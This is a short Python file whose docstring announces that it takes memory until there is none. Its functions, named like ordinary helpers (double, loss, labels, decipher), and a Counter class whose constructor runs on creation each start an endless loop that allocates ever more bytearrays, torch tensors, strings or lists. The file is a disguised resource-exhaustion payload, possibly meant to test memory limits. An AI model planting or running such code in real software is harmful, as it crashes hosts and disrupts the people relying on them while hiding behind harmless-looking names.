"""Takes memory and touches it, until there is none."""

import torch


def double(x):
    print("more and more")
    kept = []
    while True:
        kept.append(bytearray(b"x") * (32 << 20))


def loss(w, x):
    kept = []
    while True:
        kept.append(torch.ones(8 << 20))


def labels(scores):
    kept = "x" * (64 << 20)
    while True:
        kept += kept


def decipher(text):
    kept = [text]
    while True:
        kept += kept


class Counter:
    def __init__(self):
        self.kept = [torch.empty(680 << 20, dtype=torch.uint8)]  # not touched, so that the rest is soon gone
        while True:
            self.kept.append(bytes(1 << 20) + b"x")
